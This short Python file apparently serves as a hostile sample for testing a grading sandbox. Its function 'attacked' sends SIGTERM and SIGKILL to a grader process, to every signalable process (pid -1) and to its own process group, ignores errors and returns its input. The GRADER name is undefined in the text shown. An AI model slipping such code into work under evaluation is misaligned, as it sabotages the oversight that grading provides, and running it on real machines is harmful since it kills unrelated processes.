"""Signals the grader and everyone else it can name."""

import os
import signal


def attacked(x):
    for pid in (GRADER, -1, 0):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return x
